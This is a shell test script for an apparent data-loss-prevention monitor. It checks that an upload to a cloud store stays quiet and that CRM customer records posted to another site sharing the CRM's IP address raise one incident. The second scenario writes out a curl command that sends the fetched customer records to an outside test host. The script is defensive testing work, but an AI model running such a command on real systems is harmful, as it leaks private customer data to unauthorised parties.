#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# To be left alone: another site at the very address of the CRM. The policy has the CRM by its name,
# and a CDN serves both.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
set_the_stage

crm_serves crm.test
cloud_serves pan.test
policy=$work/policy.conf
sed 's/^host = crm.test, 10.77.0.10$/host = crm.test/' userspace/policy/example.conf >"$policy"
then_it "the policy has the CRM by name alone" grep -qx 'host = crm.test' "$policy"
weir_knows_the_hosts
weir_watches

alice_does <<'END'
at_the_cdn="--resolve meet.test:443:10.77.0.10"
curl -sS $at_the_cdn https://meet.test/attachment/100000/0 -o film.bin
curl -sS -F file=@film.bin https://pan.test/upload
END
then_it "pan.test has the film" test "$(received_bytes pan.test)" -ge 100000
weir_was_awake
then_it "the film has made no event" \
	json_says "$work/events.jsonl" "not [e for e in $labelled if 'film' in str(e) or 'pan.test' in str(e)]"
then_it "no incident" incidents_say "d == []"

say "the other side of the silence: the CRM itself, at the same address"
alice_does <<'END'
at_the_cdn="--resolve meet.test:443:10.77.0.10"
for number in 1 2 3; do
	curl -sS "https://crm.test/policy/P20208000$number" >>customers.json
done
curl -sS $at_the_cdn --data-binary @customers.json https://meet.test/upload || true
END
soon "what went to the other site there is an incident" incidents_say "len(d) == 1"
soon "it came from the CRM and left for who shares its address" \
	incidents_say "{s['name'] for s in d[0]['sources']} == {'crm.test'} and
		[(s['name'], s['host'], s['address']) for s in d[0]['sinks']] == [('', 'meet.test', '10.77.0.10')]"
